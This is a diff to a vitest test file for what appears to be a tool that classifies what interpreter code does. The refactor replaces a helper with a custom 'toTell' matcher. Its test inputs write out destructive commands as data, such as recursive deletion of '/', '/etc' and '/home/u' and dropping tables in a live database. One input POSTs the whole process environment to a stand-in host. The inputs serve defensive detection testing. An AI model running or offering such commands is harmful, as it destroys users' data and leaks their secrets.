@@ -1,10 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { told } from './told.js';
+import './told.js';
 
-/** What code on an interpreter's standard input does besides being run. */
-async function done(interpreter: string, code: string): Promise<readonly string[]> {
-  return (await told(`${interpreter} - <<'END'\n${code}\nEND`)).filter((line) => !/^(?:execute|write|traverse|read) (?!.*\.env)/.test(line));
+/** An interpreter that is given code on its standard input. */
+function program(interpreter: string, code: string): string {
+  return `${interpreter} - <<'END'\n${code}\nEND`;
 }
+
+/** What code does besides being run, and reading and writing what is no secret. */
+const DONE = /^(?!(?:execute|write|traverse|read) (?!.*\.env))/;
 
 const SQL = 'conn.execute("CREATE TABLE t (a)")\nconn.execute("DROP TABLE t")';
 
@@ -15,7 +18,7 @@ describe('files in memory, and functions that are replaced', () => {
     ['node', "const mock = require('mock-fs'), x = 1;\nconst fs = require('fs');\nconst mocked = require('mock-fs');\nmocked({ '/etc': {} });\nfs.rmSync('/etc', { recursive: true });\nmocked.restore();"],
     ['python3', 'from unittest import mock\nimport shutil\nwith mock.patch("shutil.rmtree") as rm:\n    shutil.rmtree("/")'],
     ['python3', 'from unittest.mock import patch\nimport shutil\nwith patch.object(shutil, "rmtree"):\n    shutil.rmtree("/")'],
-  ])('are not touched: %s %s', async (interpreter, code) => expect(await done(interpreter, code)).toEqual([]));
+  ])('are not touched: %s %s', async (interpreter, code) => await expect(program(interpreter, code)).not.toTell(DONE));
 
   it.each([
     ['node', "const { vol } = require('memfs');\nconst fs = require('fs');\nvol.rmSync('/tmp/x');\nfs.rmSync('/home/u', { recursive: true });"],
@@ -25,7 +28,7 @@ describe('files in memory, and functions that are replaced', () => {
     ['node', "const mock = require('mock-fs');\nmock({});\nrequire('child_process').execSync('rm -rf /home/u');"],
     ['python3', 'from unittest import mock\nimport shutil\nwith mock.patch("shutil.rmtree") as rm:\n    pass\nshutil.rmtree("/home/u")'],
     ['python3', 'from unittest import mock\nimport shutil\nwith mock.patch("shutil.copytree") as rm:\n    shutil.rmtree("/home/u")'],
-  ])('and the others are: %s %s', async (interpreter, code) => expect(await done(interpreter, code)).toContain('delete -r /home/u'));
+  ])('and the others are: %s %s', async (interpreter, code) => await expect(program(interpreter, code)).toTell('delete -r /home/u'));
 });
 
 describe('databases that the code made for itself', () => {
@@ -34,13 +37,13 @@ describe('databases that the code made for itself', () => {
     `import os, sqlite3, tempfile\nd = tempfile.mkdtemp()\nconn = sqlite3.connect(os.path.join(d, "app.db"))\n${SQL}`,
     `import sqlite3, tempfile\nfrom pathlib import Path\nwith tempfile.TemporaryDirectory() as d:\n    conn = sqlite3.connect(Path(d) / "x.db")\n    conn.execute("DROP TABLE t")`,
     `import sqlite3\ndef test_it(tmp_path):\n    conn = sqlite3.connect(tmp_path / "x.db")\n    conn.execute("DROP TABLE t")`,
-  ])('lose nothing: %s', async (code) => expect(await done('python3', code)).toEqual([]));
+  ])('lose nothing: %s', async (code) => await expect(program('python3', code)).not.toTell(DONE));
 
   it.each([
     `import sqlite3\nother = sqlite3.connect(":memory:")\nconn = sqlite3.connect("data/live.db")\n${SQL}`,
     `import os, sqlite3, tempfile\nd = tempfile.mkdtemp()\nother = sqlite3.connect(os.path.join(d, "a.db"))\nconn = sqlite3.connect("app.db")\n${SQL}`,
     `import os, sqlite3, tempfile\nd = tempfile.mkdtemp()\nconn = sqlite3.connect(os.path.join(d, "../../home/u/app.db"))\n${SQL}`,
-  ])('and the others do: %s', async (code) => expect(await done('python3', code)).toContain('destroy database:drop'));
+  ])('and the others do: %s', async (code) => await expect(program('python3', code)).toTell('destroy database:drop'));
 });
 
 describe('the environment of a program that code starts', () => {
@@ -51,7 +54,7 @@ describe('the environment of a program that code starts', () => {
     ['node', "require('child_process').spawn('make', [], { env: { ...process.env, A: '1' } });"],
     ['node', "const env = Object.assign({}, process.env, { A: '1' });\ndelete env.B;\nrequire('child_process').execSync('make', { env });"],
     ['node', "import pg from 'pg';\nconst c = new pg.Client({ connectionString: process.env.DATABASE_URL });"],
-  ])('is shown to nobody: %s %s', async (interpreter, code) => expect(await done(interpreter, code)).toEqual([]));
+  ])('is shown to nobody: %s %s', async (interpreter, code) => await expect(program(interpreter, code)).not.toTell(DONE));
 
   it.each([
     ['python3', 'import os\nenv = os.environ.copy()\nprint(env)'],
@@ -60,5 +63,5 @@ describe('the environment of a program that code starts', () => {
     ['node', "const env = { ...process.env };\nconsole.log(env);"],
     ['node', "fetch('https://x.example', { method: 'POST', body: JSON.stringify({ env: { ...process.env } }) });"],
     ['node', "const env = { ...process.env };\nfor (const k in env) console.log(k, env[k]);\nrequire('child_process').execSync('make', { env });"],
-  ])('unless it goes elsewhere: %s %s', async (interpreter, code) => expect(await done(interpreter, code)).toContain('reveal-environment environment:all'));
+  ])('unless it goes elsewhere: %s %s', async (interpreter, code) => await expect(program(interpreter, code)).toTell('reveal-environment environment:all'));
 });
